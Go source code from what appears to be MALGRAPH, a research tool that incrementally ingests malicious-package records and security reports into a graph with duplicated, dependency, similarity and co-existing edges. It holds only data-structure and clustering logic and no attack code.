	// Merge fresh reports, splitting the in-order tail (URLs past the whole
	// ingested corpus — the steady-state feed shape) from late arrivals.
	var tail, late []*reports.Report
	fresh := make(map[string]bool)
	maxURL := ""
	if n := len(e.mg.Reports); n > 0 {
		maxURL = e.mg.Reports[n-1].URL
	}
	for _, rep := range newReports {
		if rep == nil {
			continue
		}
		if prev, seen := e.reportByURL[rep.URL]; seen {
			// The corpus keeps the first crawl of a URL; surface the drop —
			// and whether the re-crawl's content differed — instead of
			// losing it without a trace.
			st.DuplicateReports++
			if !reportContentEqual(prev, rep) {
				st.DuplicateReportConflicts++
			}
			continue
		}
		e.reportByURL[rep.URL] = rep
		fresh[rep.URL] = true
		if e.track != nil {
			e.track.reports[rep.URL] = true
		}
		for _, coord := range rep.Packages {
			e.addPostingLocked(coord.Key(), rep.URL)
		}
		if rep.URL <= maxURL {
			late = append(late, rep)
		} else {
			tail = append(tail, rep)
		}
	}
	st.NewReports = len(tail) + len(late)
	sortReportsByURL(tail)
	sortReportsByURL(late)
	e.mg.Reports = mergeReportCorpus(e.mg.Reports, late, tail)

	// Hub-and-path closure: a grown group beyond PairwiseLimit re-derives
	// its pair set non-monotonically (the path through the sorted member
	// list changes shape), so its members' edges must be replaced and every
	// report naming any of those members re-joined. Member sets resolved
	// here are memoized for the join pass below.
	var hubMembers []string
	membersOf := make(map[string][]string, len(rejoin))
	for url := range rejoin {
		m := e.presentMembers(e.reportByURL[url])
		membersOf[url] = m
		if len(m) > e.cfg.PairwiseLimit {
			hubMembers = append(hubMembers, m...)
		}
	}
	if len(hubMembers) > 0 {
		sort.Strings(hubMembers)
		hubMembers = uniqueStrings(hubMembers)
		for _, id := range hubMembers {
			for _, url := range e.posting[id] {
				if !fresh[url] {
					rejoin[url] = true
				}
			}
		}
	}

	st.ReportsRejoined = len(rejoin)
	joinList := make([]*reports.Report, 0, len(rejoin)+len(tail)+len(late))
	for url := range rejoin {
		joinList = append(joinList, e.reportByURL[url])
	}
	joinList = append(joinList, tail...)
	joinList = append(joinList, late...)
	sortReportsByURL(joinList)

	// Only re-joins and late arrivals count toward the fallback trigger:
	// in-order tail reports can never repair ownership or drop edges, so a
	// bulk in-order load stays on the O(new) append path however large.
	if total := len(e.mg.Reports); total > fullRejoinThreshold && (len(rejoin)+len(late))*2 > total {
		// Fallback: the scope covers most of the corpus — one full
		// URL-ordered re-derivation is cheaper than surgical replacement.
		// The wholesale wipe is signalled by CoexistingRebuilt, not counted
		// in CoexistingEdgesReplaced (which tracks surgical replacements).
		e.mg.G.RemoveEdgesWhere(graph.Coexisting, func(graph.Edge) bool { return true })
		e.mg.ReportsByPackage = make(map[string][]*reports.Report, len(e.mg.ReportsByPackage))
		e.coexOwner = make(map[string]string, len(e.coexOwner))
		if e.track != nil {
			e.track.rebasePairs()
		}
		for _, rep := range e.mg.Reports {
			if err := e.joinReportLocked(rep, nil, st); err != nil {
				return err
			}
		}
		st.CoexistingRebuilt = true
		st.CoexistingDelta = e.mg.G.EdgeCount(graph.Coexisting) - before
		return nil
	}

	if len(hubMembers) > 0 {
		// Drop the grown hub-and-path groups' edges and forget their pair
		// ownership; the URL-ordered re-join below re-derives both.
		for _, id := range hubMembers {
			for _, nb := range e.mg.G.Neighbors(id, graph.Coexisting) {
				pk := coexPairKey(id, nb)
				delete(e.coexOwner, pk)
				if e.track != nil {
					e.track.pairDel(pk)
				}
			}
		}
		st.CoexistingEdgesReplaced += e.mg.G.RemoveEdgesIncident(graph.Coexisting, hubMembers)
	}
	for _, rep := range joinList {
		if err := e.joinReportLocked(rep, membersOf[rep.URL], st); err != nil {
			return err
		}
	}
	st.CoexistingScoped = st.ReportsRejoined > 0 || len(late) > 0
	st.CoexistingDelta = e.mg.G.EdgeCount(graph.Coexisting) - before
	return nil
}

// joinReport joins one report into the co-existing family: its present
// members' ReportsByPackage lists gain the report (idempotently, at the
// URL-sorted position) and the report claims every pair it emits and is the
// URL-smallest cover of — repairing attrs a larger-URL report wrote first,
// exactly the outcome of a one-shot build's URL-ordered join. Re-joining an
// already joined report is a no-op beyond the pairs its grown member set
// added. members may carry a pre-resolved presentMembers result (nil
// resolves it here).
func (e *Engine) joinReportLocked(rep *reports.Report, members []string, st *IngestStats) error {
	if members == nil {
		members = e.presentMembers(rep)
	}
	for _, id := range members {
		e.indexReportForPackage(id, rep)
	}
	if len(members) < 2 {
		return nil
	}
	attrs := graph.Attrs{"report": rep.URL}
	return pairwise(members, e.cfg.PairwiseLimit, func(a, b string) error {
		pk := coexPairKey(a, b)
		if owner, ok := e.coexOwner[pk]; ok {
			if owner <= rep.URL {
				return nil
			}
			// First-writer ownership repair: this report's URL sorts below
			// the current owner's, so one-shot joining would have written
			// its attrs. Replace exactly this edge.
			e.mg.G.RemoveEdge(a, b, graph.Coexisting)
			st.CoexistingEdgesReplaced++
		}
		e.coexOwner[pk] = rep.URL
		if e.track != nil {
			e.track.pairSet(pk)
		}
		return e.mg.G.AddEdge(a, b, graph.Coexisting, attrs)
	})
}

// presentMembers returns the sorted, deduplicated canonical node IDs of the
// report's named packages currently present in the graph.
func (e *Engine) presentMembers(rep *reports.Report) []string {
	members := make([]string, 0, len(rep.Packages))
	for _, coord := range rep.Packages {
		id := NodeID(coord)
		if _, ok := e.mg.G.Node(id); ok {
			members = append(members, id)
		}
	}
	sort.Strings(members)
	return uniqueStrings(members)
}

// indexReportForPackage inserts rep into the package's ReportsByPackage list
// at its URL-sorted position, if absent — keeping every list in global URL
// order whatever order reports and packages arrive in. The insert builds a
// fresh slice instead of shifting in place: published views (Engine.View)
// share these lists, so their backing arrays must never be rewritten.
func (e *Engine) indexReportForPackage(id string, rep *reports.Report) {
	lst := e.mg.ReportsByPackage[id]
	i := sort.Search(len(lst), func(i int) bool { return lst[i].URL >= rep.URL })
	if i < len(lst) && lst[i].URL == rep.URL {
		return
	}
	next := make([]*reports.Report, 0, len(lst)+1)
	next = append(next, lst[:i]...)
	next = append(next, rep)
	next = append(next, lst[i:]...)
	e.mg.ReportsByPackage[id] = next
}

// addPosting inserts url into the coordinate's URL-sorted posting list, if
// absent. Coordinates never observed yet get lists too — that is the whole
// point: the list is what a later wanted-package arrival re-joins.
func (e *Engine) addPostingLocked(key, url string) {
	lst := e.posting[key]
	i, found := slices.BinarySearch(lst, url)
	if found {
		return
	}
	e.posting[key] = slices.Insert(lst, i, url)
}

// coexPairKey canonicalises an undirected co-existing pair of canonical node
// IDs ('|' cannot appear in a coordinate key).
func coexPairKey(a, b string) string {
	if a > b {
		a, b = b, a
	}
	return a + "|" + b
}

// reportContentEqual compares the fields the join and analyses consume,
// detecting re-crawled documents whose content changed.
func reportContentEqual(a, b *reports.Report) bool {
	if a.Title != b.Title || a.Body != b.Body || len(a.Packages) != len(b.Packages) {
		return false
	}
	for i := range a.Packages {
		if a.Packages[i] != b.Packages[i] {
			return false
		}
	}
	return slices.Equal(a.IoCs.IPs, b.IoCs.IPs) &&
		slices.Equal(a.IoCs.URLs, b.IoCs.URLs) &&
		slices.Equal(a.IoCs.PowerShell, b.IoCs.PowerShell)
}

func sortReportsByURL(reps []*reports.Report) {
	sort.Slice(reps, func(i, j int) bool { return reps[i].URL < reps[j].URL })
}

// mergeReportCorpus merges late arrivals into the URL-sorted corpus with one
// backwards in-place merge and appends the in-order tail — O(corpus + fresh)
// only when late reports exist, O(tail) in the steady state, replacing the
// former whole-corpus re-sort on every report-bearing batch.
func mergeReportCorpus(corpus, late, tail []*reports.Report) []*reports.Report {
	if len(late) > 0 {
		old := corpus
		corpus = append(corpus, late...)
		i, j := len(old)-1, len(late)-1
		for k := len(corpus) - 1; j >= 0; k-- {
			if i >= 0 && old[i].URL > late[j].URL {
				corpus[k] = old[i]
				i--
			} else {
				corpus[k] = late[j]
				j--
			}
		}
	}
	return append(corpus, tail...)
}

func artifactChanges(changes []entryChange) []entryChange {
	out := make([]entryChange, 0, len(changes))
	for _, ch := range changes {
		if ch.newArtifact {
			out = append(out, ch)
		}
	}
	return out
}

// mergeItems splices a batch of new items into the ID-sorted cache with one
// backwards merge — O(cache + batch) total, replacing the former per-item
// binary-search-and-shift whose worst case was O(cache) per insertion. Items
// sharing an ID with a cached one replace it in place (defensive; artifacts
// are immutable once ingested).
func mergeItems(items []textsim.Item, batch []textsim.Item) []textsim.Item {
	if len(batch) == 0 {
		return items
	}
	add := make([]textsim.Item, len(batch))
	copy(add, batch)
	sort.Slice(add, func(i, j int) bool { return add[i].ID < add[j].ID })
	fresh := add[:0]
	for _, it := range add {
		if n := len(fresh); n > 0 && fresh[n-1].ID == it.ID {
			fresh[n-1] = it // duplicate within the batch: last wins
			continue
		}
		if i := sort.Search(len(items), func(i int) bool { return items[i].ID >= it.ID }); i < len(items) && items[i].ID == it.ID {
			items[i] = it // already cached: replace, nothing to splice
			continue
		}
		fresh = append(fresh, it)
	}
	if len(fresh) == 0 {
		return items
	}
	old := items
	items = append(items, fresh...)
	i, j := len(old)-1, len(fresh)-1
	for k := len(items) - 1; j >= 0; k-- {
		if i >= 0 && old[i].ID > fresh[j].ID {
			items[k] = old[i]
			i--
		} else {
			items[k] = fresh[j]
			j--
		}
	}
	return items
}

func containsSource(ids []sources.ID, id sources.ID) bool {
	for _, x := range ids {
		if x == id {
			return true
		}
	}
	return false
}
