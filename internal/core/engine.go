package core

// Engine is the streaming counterpart of Build: a long-lived MALGRAPH
// instance that ingests (entries, reports) batches as registries and report
// feeds publish them (§II-B is a continuous collection process; the one-shot
// Build is the degenerate single-batch case). All four edge families are
// maintained incrementally through persistent indexes:
//
//   - duplicated: per-entry record cliques, appended as sources accumulate.
//   - dependency: a corpus dictionary (name → canonical nodes) plus a
//     reverse import index (imported name → scanned fronts), so a new
//     package links both directions — to the corpus members it imports and
//     from the previously ingested fronts that import *it* — without
//     rescanning anything.
//   - similar: per-artifact tokenize→hash→embed→SimHash products are cached
//     per node; a banded LSH index (textsim.LSHIndex) partitions every
//     ecosystem by verified band-candidate connectivity (shared SimHash band
//     AND cosine ≥ threshold, transitively — family-sized components at any
//     corpus scale), and only the partitions containing changed artifacts
//     re-cluster: their similar edges are dropped surgically
//     (graph.RemoveEdgesIncident) and re-derived, while every other
//     partition's clusters and edges are untouched. Clusters are computed
//     per partition, so appends cost O(dirty partitions), not O(ecosystem).
//   - co-existing: reports are merged into a URL-sorted corpus and the
//     (cheap) report-join stage is re-derived when a batch adds reports or
//     packages that earlier reports were waiting for.
//
// Determinism contract: ingesting a corpus in any batch partition yields a
// graph whose connected components, edge sets and all downstream analyses
// are identical to a one-shot Build of the merged corpus. (Edge *insertion
// order* — and therefore serialized JSON byte order — may differ between
// partitions; every analysis consumes components, counts or sorted views.)
// The contract holds because every stage either derives a monotone edge set
// (duplicated, dependency) or re-derives the affected family from merged
// state that is itself partition-independent: items enter clustering sorted
// by node ID and reports sorted by URL, exactly the order Build sees.

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"malgraph/internal/collect"
	"malgraph/internal/depscan"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/parallel"
	"malgraph/internal/reports"
	"malgraph/internal/sources"
	"malgraph/internal/textsim"
	"malgraph/internal/xrand"
)

// Batch is one ingest installment: new dataset entries with their source
// accounting (see collect.Feed) plus newly published security reports.
type Batch struct {
	Entries   []*collect.Entry
	PerSource map[sources.ID]collect.SourceStats
	// Stats carries each entry's absolute per-source accounting (see
	// collect.Batch.Stats). When present, the engine applies exact
	// accounting deltas per entry — correct under replay, under batches
	// that extend already-known coordinates (the external ingest path),
	// and under any feed/external mix. When nil (hand-assembled batches,
	// one-shot Build), the PerSource aggregate is added verbatim whenever
	// the batch changed the dataset.
	Stats   map[string]collect.EntryStat
	Reports []*reports.Report
	// At is the collection instant; recorded once (first non-zero wins).
	At time.Time
}

// IngestStats summarises what one Ingest call changed — the invalidation
// signal the API layer uses to recompute only affected analysis blocks.
type IngestStats struct {
	NewEntries     int
	UpdatedEntries int
	NewArtifacts   int
	NewReports     int
	// Reclustered lists the ecosystems whose §III-B clustering re-ran.
	Reclustered []ecosys.Ecosystem
	// Recluster-scope accounting for the LSH-scoped partial re-clustering:
	// of the DirtyEcoItems artifacts in the touched ecosystems, only the
	// ArtifactsReclustered inside PartitionsReclustered LSH partitions were
	// actually re-clustered — the gap is the O(ecosystem) work the partition
	// scoping avoided.
	PartitionsReclustered int
	ArtifactsReclustered  int
	DirtyEcoItems         int
	// Edge deltas by type (coexisting counts the net effect of a rebuild).
	DuplicatedDelta int
	DependencyDelta int
	SimilarDelta    int
	CoexistingDelta int
	// CoexistingRebuilt reports whether the report-join stage re-ran.
	CoexistingRebuilt bool
}

// DatasetChanged reports whether the merged dataset differs from before the
// batch (RQ1 and validation inputs).
func (s IngestStats) DatasetChanged() bool { return s.NewEntries > 0 || s.UpdatedEntries > 0 }

// SimilarChanged reports whether similar clusters may differ (RQ2, Table XI,
// detection inputs).
func (s IngestStats) SimilarChanged() bool { return len(s.Reclustered) > 0 }

// DependencyChanged reports whether dependency edges were added (RQ3 inputs).
func (s IngestStats) DependencyChanged() bool { return s.DependencyDelta != 0 }

// CoexistingChanged reports whether co-existing edges or the report corpus
// changed (RQ4 inputs).
func (s IngestStats) CoexistingChanged() bool { return s.CoexistingRebuilt || s.NewReports > 0 }

// Engine maintains MALGRAPH incrementally across Ingest batches.
type Engine struct {
	mu  sync.Mutex
	cfg Config
	mg  *MalGraph

	embedder *textsim.Embedder
	scanner  *depscan.Scanner

	// Corpus dictionaries (§III-C): name → canonical node IDs, and the name
	// set, per ecosystem. Both grow monotonically.
	byName map[ecosys.Ecosystem]map[string][]string
	corpus map[ecosys.Ecosystem]map[string]bool
	// Reverse import index: imported name → canonical node IDs of the
	// already-scanned fronts importing it (self-name imports excluded).
	importers map[ecosys.Ecosystem]map[string][]string
	// importsOf caches each scanned artifact's manifest+source import names.
	importsOf map[string][]string

	// itemsByEco caches the §III-B per-artifact products, sorted by node ID
	// (the order a one-shot Build clusters in).
	itemsByEco map[ecosys.Ecosystem][]textsim.Item
	// lshByEco partitions each ecosystem's items by verified band-candidate
	// connectivity under cfg.Cluster (LSHBands, Threshold) — the unit of
	// incremental re-clustering. Partition identity is content-derived
	// (canonical key = smallest member node ID), so any batch order
	// reproduces the same partitions.
	lshByEco map[ecosys.Ecosystem]*textsim.LSHIndex
	// clustersByPart caches each partition's surviving clusters by its
	// canonical key; flattening the map in key order yields the ecosystem's
	// cluster list exactly as a one-shot build derives it.
	clustersByPart map[ecosys.Ecosystem]map[string][]textsim.Cluster
	// clusterScratch pools the clustering kernels' buffers across ingests,
	// one Scratch per re-clustering worker.
	clusterScratch sync.Pool

	// reportSeen dedupes reports by URL; wanted indexes every coordinate any
	// ingested report names, so a later batch that delivers such a package
	// triggers a co-existing re-join.
	reportSeen map[string]bool
	wanted     map[string]bool
}

// NewEngine creates an empty engine. Zero-valued config falls back to the
// paper's parameters, as Build does.
func NewEngine(cfg Config) *Engine {
	if cfg.PairwiseLimit <= 0 {
		cfg = DefaultConfig()
	}
	return &Engine{
		cfg: cfg,
		mg: &MalGraph{
			G:                graph.New(),
			Dataset:          collect.NewResult(time.Time{}),
			SimilarClusters:  make(map[ecosys.Ecosystem][]textsim.Cluster),
			ReportsByPackage: make(map[string][]*reports.Report),
			entryByID:        make(map[string]*collect.Entry),
		},
		embedder:       textsim.NewEmbedder(cfg.Embed),
		scanner:        depscan.NewScanner(),
		byName:         make(map[ecosys.Ecosystem]map[string][]string),
		corpus:         make(map[ecosys.Ecosystem]map[string]bool),
		importers:      make(map[ecosys.Ecosystem]map[string][]string),
		importsOf:      make(map[string][]string),
		itemsByEco:     make(map[ecosys.Ecosystem][]textsim.Item),
		lshByEco:       make(map[ecosys.Ecosystem]*textsim.LSHIndex),
		clustersByPart: make(map[ecosys.Ecosystem]map[string][]textsim.Cluster),
		reportSeen:     make(map[string]bool),
		wanted:         make(map[string]bool),
	}
}

// Config returns the engine's effective configuration.
func (e *Engine) Config() Config { return e.cfg }

// Graph returns the live MALGRAPH. The graph store itself is safe for
// concurrent reads; a concurrent Ingest may be observed mid-batch.
func (e *Engine) Graph() *MalGraph { return e.mg }

// Dataset returns the merged dataset the engine has ingested so far.
func (e *Engine) Dataset() *collect.Result { return e.mg.Dataset }

// Reports returns the merged, URL-sorted report corpus.
func (e *Engine) Reports() []*reports.Report { return e.mg.Reports }

// entryChange tracks what one batch entry did to the merged dataset.
type entryChange struct {
	entry       *collect.Entry
	isNew       bool
	newArtifact bool
	newSources  []sources.ID // sources not present before the batch
}

// Ingest merges one batch of entries and reports into MALGRAPH. Cost is
// O(batch + dirty-ecosystem clustering + report re-join), not O(corpus).
func (e *Engine) Ingest(b Batch) (IngestStats, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	var st IngestStats

	if e.mg.Dataset.CollectedAt.IsZero() && !b.At.IsZero() {
		e.mg.Dataset.CollectedAt = b.At
	}
	changes := e.mergeEntries(b.Entries, &st)
	if b.Stats != nil {
		// Exact per-entry accounting: one Total per newly observed
		// (source, package) pair, and the delta between each entry's
		// recorded stat and the batch's absolute stat. Idempotent under
		// replay (identical stat ⇒ zero delta) and exact when several
		// batches extend the same coordinate.
		for _, ch := range changes {
			e.mg.Dataset.AddTotals(ch.newSources)
		}
		for _, ch := range changes {
			key := ch.entry.Coord.Key()
			if next, ok := b.Stats[key]; ok {
				e.mg.Dataset.ApplyEntryStat(key, next)
			}
		}
	} else if st.NewEntries > 0 || st.UpdatedEntries > 0 {
		// Legacy aggregate path: a batch's PerSource is the accounting its
		// entries contributed to the collection. Batches are disjoint under
		// the partition contract, so the stats apply exactly once — when
		// the batch actually introduces entries. A fully replayed batch
		// (warm-restart feed drain) merges zero entries and must not
		// re-add its accounting.
		e.mg.Dataset.AddSourceStats(b.PerSource)
	}
	if err := e.applyNodes(changes, &st); err != nil {
		return st, fmt.Errorf("core ingest nodes: %w", err)
	}
	if err := e.applyDependency(changes, &st); err != nil {
		return st, fmt.Errorf("core ingest dependency: %w", err)
	}
	if err := e.applySimilar(changes, &st); err != nil {
		return st, fmt.Errorf("core ingest similar: %w", err)
	}
	if err := e.applyCoexisting(b.Reports, changes, &st); err != nil {
		return st, fmt.Errorf("core ingest coexisting: %w", err)
	}
	return st, nil
}

func (e *Engine) mergeEntries(entries []*collect.Entry, st *IngestStats) []entryChange {
	changes := make([]entryChange, 0, len(entries))
	for _, in := range entries {
		if in == nil {
			continue
		}
		prev, existed := e.mg.Dataset.Entry(in.Coord)
		var prevSources []sources.ID
		prevArtifact := false
		if existed {
			prevSources = prev.Sources
			prevArtifact = prev.Artifact != nil
		}
		merged, added, changed := e.mg.Dataset.Upsert(in)
		if !added && !changed {
			continue
		}
		ch := entryChange{
			entry:       merged,
			isNew:       added,
			newArtifact: merged.Artifact != nil && !prevArtifact,
		}
		for _, s := range merged.Sources {
			if !existed || !containsSource(prevSources, s) {
				ch.newSources = append(ch.newSources, s)
			}
		}
		if added {
			st.NewEntries++
		} else {
			st.UpdatedEntries++
		}
		if ch.newArtifact {
			st.NewArtifacts++
		}
		e.mg.entryByID[NodeID(merged.Coord)] = merged
		changes = append(changes, ch)
	}
	return changes
}

// applyNodes inserts or refreshes canonical and record nodes and appends the
// duplicated-edge cliques (§III-A).
func (e *Engine) applyNodes(changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Duplicated)
	for _, ch := range changes {
		en := ch.entry
		id := NodeID(en.Coord)
		attrs := canonicalAttrs(en)
		if ch.isNew {
			if err := e.mg.G.AddNode(id, attrs); err != nil {
				return err
			}
		} else {
			for k, v := range attrs {
				if err := e.mg.G.SetAttr(id, k, v); err != nil {
					return err
				}
			}
		}
		for _, s := range ch.newSources {
			recAttrs := graph.Attrs{
				"kind":      "record",
				"name":      en.Coord.Name,
				"version":   en.Coord.Version,
				"ecosystem": en.Coord.Ecosystem.String(),
				"source":    strconv.Itoa(int(s)),
			}
			if en.Artifact != nil {
				recAttrs["hash"] = en.Artifact.Hash()
			}
			if err := e.mg.G.AddNode(RecordNodeID(s, en.Coord), recAttrs); err != nil {
				return err
			}
		}
		if ch.newArtifact && !ch.isNew {
			// Late-arriving artifact: stamp the hash on pre-existing records
			// and drop the entry's duplicated edges so the clique below
			// re-derives them with the hash-confirmed match attr — what a
			// one-shot build of the merged corpus would have produced.
			for _, s := range en.Sources {
				if err := e.mg.G.SetAttr(RecordNodeID(s, en.Coord), "hash", en.Artifact.Hash()); err != nil {
					return err
				}
			}
			suffix := "|" + en.Coord.Key()
			e.mg.G.RemoveEdgesWhere(graph.Duplicated, func(ed graph.Edge) bool {
				return strings.HasSuffix(ed.From, suffix)
			})
		}
		if len(en.Sources) >= 2 {
			dupAttrs := graph.Attrs{"match": "name+version"}
			if en.Artifact != nil {
				dupAttrs["match"] = "name+version+hash"
			}
			recIDs := make([]string, len(en.Sources))
			for i, s := range en.Sources {
				recIDs[i] = RecordNodeID(s, en.Coord)
			}
			for i := 0; i < len(recIDs); i++ {
				for j := i + 1; j < len(recIDs); j++ {
					if err := e.mg.G.AddEdge(recIDs[i], recIDs[j], graph.Duplicated, dupAttrs); err != nil {
						return err
					}
				}
			}
		}
	}
	st.DuplicatedDelta = e.mg.G.EdgeCount(graph.Duplicated) - before
	return nil
}

func canonicalAttrs(en *collect.Entry) graph.Attrs {
	attrs := graph.Attrs{
		"kind":      "package",
		"name":      en.Coord.Name,
		"version":   en.Coord.Version,
		"ecosystem": en.Coord.Ecosystem.String(),
		"avail":     en.Availability.String(),
		"occ":       strconv.Itoa(en.OccurrenceCount()),
	}
	if en.Artifact != nil {
		attrs["hash"] = en.Artifact.Hash()
	}
	ids := make([]string, 0, len(en.Sources))
	for _, s := range en.Sources {
		ids = append(ids, strconv.Itoa(int(s)))
	}
	attrs["sources"] = strings.Join(ids, ",")
	return attrs
}

// applyDependency extends the §III-C dependency edges in both directions:
// new artifacts are scanned once (imports cached), linked to the corpus
// members they import, and registered in the reverse index; new corpus names
// are linked back from previously scanned importers.
func (e *Engine) applyDependency(changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Dependency)
	// 1. Grow the corpus dictionary with every new entry (missing packages
	// are legitimate dependency targets — names survive takedown).
	for _, ch := range changes {
		if !ch.isNew {
			continue
		}
		eco, name := ch.entry.Coord.Ecosystem, ch.entry.Coord.Name
		if e.byName[eco] == nil {
			e.byName[eco] = make(map[string][]string)
			e.corpus[eco] = make(map[string]bool)
		}
		e.byName[eco][name] = append(e.byName[eco][name], NodeID(ch.entry.Coord))
		e.corpus[eco][name] = true
	}
	// 2. Scan new artifacts (parallel, order-preserving) and link forward.
	newArts := artifactChanges(changes)
	type scanResult struct {
		deps []string
		err  error
	}
	scans := parallel.Map(len(newArts), func(i int) scanResult {
		en := newArts[i].entry
		manifest, err := e.scanner.FromManifest(en.Artifact)
		if err != nil {
			return scanResult{err: err}
		}
		imported := depscan.ExtractImports(en.Artifact)
		seen := make(map[string]bool, len(manifest)+len(imported))
		deps := make([]string, 0, len(manifest)+len(imported))
		for _, list := range [][]string{manifest, imported} {
			for _, d := range list {
				if d == en.Coord.Name || seen[d] {
					continue
				}
				seen[d] = true
				deps = append(deps, d)
			}
		}
		sort.Strings(deps)
		return scanResult{deps: deps}
	})
	for i, ch := range newArts {
		if scans[i].err != nil {
			return fmt.Errorf("dep scan %s: %w", ch.entry.Coord, scans[i].err)
		}
		eco := ch.entry.Coord.Ecosystem
		front := NodeID(ch.entry.Coord)
		e.importsOf[front] = scans[i].deps
		if e.importers[eco] == nil {
			e.importers[eco] = make(map[string][]string)
		}
		for _, dep := range scans[i].deps {
			e.importers[eco][dep] = append(e.importers[eco][dep], front)
			for _, target := range e.byName[eco][dep] {
				if target == front {
					continue
				}
				if err := e.mg.G.AddEdge(front, target, graph.Dependency, graph.Attrs{"dep": dep}); err != nil {
					return err
				}
			}
		}
	}
	// 3. Link backward: earlier fronts that were waiting for a new name.
	for _, ch := range changes {
		if !ch.isNew {
			continue
		}
		eco, name := ch.entry.Coord.Ecosystem, ch.entry.Coord.Name
		target := NodeID(ch.entry.Coord)
		for _, front := range e.importers[eco][name] {
			if front == target {
				continue
			}
			if err := e.mg.G.AddEdge(front, target, graph.Dependency, graph.Attrs{"dep": name}); err != nil {
				return err
			}
		}
	}
	st.DependencyDelta = e.mg.G.EdgeCount(graph.Dependency) - before
	return nil
}

// applySimilar embeds the batch's new artifacts, grows the per-ecosystem LSH
// partition index, then re-runs the §III-B clustering for exactly the
// partitions whose member set changed — replacing only those partitions'
// similar edges (graph.RemoveEdgesIncident) instead of the whole ecosystem's.
func (e *Engine) applySimilar(changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Similar)
	newArts := artifactChanges(changes)
	type scratch struct {
		tokens []string
		hashed []textsim.TokenHash
	}
	var pool sync.Pool
	// Identical per-artifact pipeline to a one-shot Build: tokenize once,
	// share the hashed stream between embedding and fingerprint, recycle
	// buffers per worker.
	items := parallel.Map(len(newArts), func(i int) textsim.Item {
		en := newArts[i].entry
		sc, _ := pool.Get().(*scratch)
		if sc == nil {
			sc = &scratch{}
		}
		defer pool.Put(sc)
		sc.tokens = textsim.TokenizeAppend(sc.tokens[:0], en.Artifact.MergedSource())
		sc.hashed = textsim.HashTokens(sc.tokens, sc.hashed)
		return textsim.Item{
			ID: NodeID(en.Coord),
			// Zero-tail trimming keeps the clustering kernels scanning only
			// occupied dimensions (most artifacts fill one snippet slot).
			Vector: textsim.TrimZeroTail(e.embedder.EmbedHashed(sc.hashed)),
			Hash:   textsim.SimHashHashed(sc.hashed),
		}
	})
	dirty := make(map[ecosys.Ecosystem][]string)
	for i, ch := range newArts {
		eco := ch.entry.Coord.Ecosystem
		e.itemsByEco[eco] = insertItem(e.itemsByEco[eco], items[i])
		if e.lshByEco[eco] == nil {
			e.lshByEco[eco] = textsim.NewLSHIndex(e.cfg.Cluster)
		}
		e.lshByEco[eco].Add(items[i].ID, items[i].Hash, items[i].Vector)
		dirty[eco] = append(dirty[eco], items[i].ID)
	}
	if len(dirty) == 0 {
		return nil
	}
	ecos := make([]ecosys.Ecosystem, 0, len(dirty))
	for eco := range dirty {
		ecos = append(ecos, eco)
	}
	sort.Slice(ecos, func(i, j int) bool { return ecos[i] < ecos[j] })
	// Resolve the dirty partitions: where the new items landed after every
	// merge this batch caused. A partition key retired by a merge always
	// re-surfaces inside one of these (the merge was bridged by a new item),
	// so dropping its cached clusters loses nothing.
	type partJob struct {
		eco   ecosys.Ecosystem
		key   string
		items []textsim.Item
	}
	var jobs []partJob
	var dirtyMembers []string
	for _, eco := range ecos {
		idx := e.lshByEco[eco]
		if e.clustersByPart[eco] == nil {
			e.clustersByPart[eco] = make(map[string][]textsim.Cluster)
		}
		for _, retiredKey := range idx.DrainRetired() {
			delete(e.clustersByPart[eco], retiredKey)
		}
		seen := make(map[string]bool)
		keys := make([]string, 0, len(dirty[eco]))
		for _, id := range dirty[eco] {
			key, ok := idx.Root(id)
			if !ok || seen[key] {
				continue
			}
			seen[key] = true
			keys = append(keys, key)
		}
		sort.Strings(keys)
		for _, key := range keys {
			members := idx.Members(key)
			pitems := make([]textsim.Item, 0, len(members))
			for _, id := range members {
				it, ok := e.itemAt(eco, id)
				if !ok {
					return fmt.Errorf("similar: partition %s references unknown item %s", key, id)
				}
				pitems = append(pitems, it)
			}
			jobs = append(jobs, partJob{eco: eco, key: key, items: pitems})
			dirtyMembers = append(dirtyMembers, members...)
		}
		st.DirtyEcoItems += len(e.itemsByEco[eco])
	}
	st.PartitionsReclustered = len(jobs)
	st.ArtifactsReclustered = len(dirtyMembers)
	// Re-cluster dirty partitions concurrently. Each partition's items are
	// sorted by node ID and its RNG stream is derived from its canonical key
	// — both content-derived, so any batch order (and a one-shot Build)
	// computes identical clusters per partition.
	clustersByJob := parallel.Map(len(jobs), func(i int) []textsim.Cluster {
		sc, _ := e.clusterScratch.Get().(*textsim.Scratch)
		if sc == nil {
			sc = textsim.NewScratch()
		}
		defer e.clusterScratch.Put(sc)
		job := jobs[i]
		rng := xrand.New(e.cfg.Seed).Derive("similar/" + job.eco.String() + "/" + job.key)
		return textsim.ClusterItemsScratch(job.items, e.cfg.Cluster, rng, sc)
	})
	// Clusters never span partitions, so every stale similar edge is
	// incident to a dirty partition member; drop exactly those, leaving all
	// other partitions' edges (and the adjacency indexes) untouched.
	e.mg.G.RemoveEdgesIncident(graph.Similar, dirtyMembers)
	for i, job := range jobs {
		clusters := clustersByJob[i]
		if len(clusters) == 0 {
			delete(e.clustersByPart[job.eco], job.key)
		} else {
			e.clustersByPart[job.eco][job.key] = clusters
		}
		for ci, cluster := range clusters {
			attrs := graph.Attrs{
				// Labels are partition-scoped so an untouched partition's
				// edge attrs stay valid verbatim across appends.
				"cluster":    job.key + "#" + strconv.Itoa(ci),
				"silhouette": fmt.Sprintf("%.3f", cluster.Silhouette),
			}
			if err := e.mg.connectGroup(cluster.Members, graph.Similar, attrs, e.cfg.PairwiseLimit); err != nil {
				return err
			}
		}
	}
	// Re-derive each dirty ecosystem's flat cluster list in canonical
	// partition-key order — the order a one-shot build yields.
	for _, eco := range ecos {
		e.mg.SimilarClusters[eco] = flattenClusters(e.clustersByPart[eco])
	}
	st.Reclustered = ecos
	st.SimilarDelta = e.mg.G.EdgeCount(graph.Similar) - before
	return nil
}

// itemAt returns the cached clustering item for a node ID via binary search
// in the ecosystem's ID-sorted item slice.
func (e *Engine) itemAt(eco ecosys.Ecosystem, id string) (textsim.Item, bool) {
	items := e.itemsByEco[eco]
	i := sort.Search(len(items), func(i int) bool { return items[i].ID >= id })
	if i < len(items) && items[i].ID == id {
		return items[i], true
	}
